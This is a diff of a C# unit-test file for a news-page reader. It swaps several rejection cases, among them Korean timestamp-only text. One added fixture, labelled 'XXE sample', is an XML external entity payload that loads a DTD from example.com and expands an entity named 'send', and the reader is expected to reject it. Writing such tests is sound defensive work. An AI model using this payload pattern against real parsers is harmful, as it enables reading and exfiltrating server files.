@@ -395,9 +395,8 @@ public sealed class BroadcastPageReaderTests
         { "json", Encoding.UTF8.GetBytes("{\"headline\": \"A story\", \"published\": \"2024-10-16T09:08:00+09:00\"}"), "JSON" },
         { "json array", Encoding.UTF8.GetBytes("[{\"headline\": \"A story\"}]"), "JSON" },
         { "xml feed", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>News</title></channel></rss>"), "feed" },
-        { "no date", Encoding.UTF8.GetBytes("Meeting notes\n\nWe talked about the budget.\nNext meeting on Friday.\n"), "date" },
-        { "date but no text", Encoding.UTF8.GetBytes("A headline\n\n2024.10.16 오전 09:08\n\nAD\nPrint\n"), "no story text" },
-        { "starts with time", Encoding.UTF8.GetBytes("2024.10.16 오전 09:08\n[Anchor]\nText.\n"), "headline" },
+        { "time alone", Encoding.UTF8.GetBytes("2024.10.16 오전 09:08\n\nAD\nPrint\n"), "neither a headline nor any story text" },
+        { "xml after a banner", Encoding.UTF8.GetBytes("XXE sample\n<?xml version=\"1.0\"?>\n<!DOCTYPE data SYSTEM \"http://example.com/x.dtd\">\n<data>&send;</data>\n"), "XML markup" },
     };
 
     [Theory]
